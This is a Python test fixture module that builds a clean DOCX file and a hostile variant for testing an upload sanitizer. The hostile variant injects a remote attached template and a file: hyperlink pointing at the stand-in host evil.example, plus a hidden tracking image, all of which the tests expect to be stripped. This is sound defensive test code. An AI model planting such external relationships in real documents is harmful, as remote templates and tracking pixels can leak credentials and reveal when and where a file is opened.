"""DOCX files for the upload tests: a clean one from python-docx, and hostile variants of it."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
HYPERLINK = f"{R_NS}/hyperlink"
IMAGE = f"{R_NS}/image"
ATTACHED_TEMPLATE = f"{R_NS}/attachedTemplate"


def clean_docx(text: str = "Briefkopf Kanzlei") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def repack(
    data: bytes,
    changes: dict[str, bytes | Callable[[bytes], bytes] | None],
    *,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """``data`` with members replaced (bytes), rewritten (a function of the old bytes), removed
    (None) or added (bytes for a new name)."""
    old = members(data)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, body in old.items():
            change = changes.get(name, body)
            if change is None:
                continue
            archive.writestr(name, change(body) if callable(change) else change)
        for name, change in changes.items():
            if name not in old and isinstance(change, bytes):
                archive.writestr(name, change)
    return buffer.getvalue()


def _add_rels(xml: bytes, rels: str) -> bytes:
    return xml.replace(b"</Relationships>", rels.encode() + b"</Relationships>")


def with_external_relationships(data: bytes) -> bytes:
    """An attached template on a file server, a remote image, a file: hyperlink (all stripped) and an
    https hyperlink (kept)."""
    document_rels = (
        f'<Relationship Id="rIdWeb" Type="{HYPERLINK}" Target="https://kanzlei.example/" TargetMode="External"/>'
        f'<Relationship Id="rIdFile" Type="{HYPERLINK}" Target="file://///evil.example/share/x.docx" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdPix" Type="{IMAGE}" Target="http://evil.example/track.png" TargetMode="External"/>'
    )
    body = (
        '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>Webseite</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:hyperlink r:id="rIdFile"><w:r><w:t>Ablage</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:1pt;height:1pt">'
        '<v:imagedata r:id="rIdPix"/></v:shape></w:pict></w:r></w:p>'
    )
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PR_NS}">'
        f'<Relationship Id="rIdTpl" Type="{ATTACHED_TEMPLATE}" '
        'Target="file:///\\\\evil.example\\share\\Normal.dotm" TargetMode="External"/></Relationships>'
    )

    def document(xml: bytes) -> bytes:
        return xml.replace(b"<w:body>", b"<w:body>" + body.encode(), 1)

    def settings(xml: bytes) -> bytes:
        head, sep, tail = xml.partition(b">")  # after the XML declaration
        start = tail.index(b">") + 1  # after the <w:settings ...> start tag
        return head + sep + tail[:start] + b'<w:attachedTemplate r:id="rIdTpl"/>' + tail[start:]

    return repack(
        data,
        {
            "word/_rels/document.xml.rels": lambda xml: _add_rels(xml, document_rels),
            "word/document.xml": document,
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": settings_rels.encode(),
        },
    )
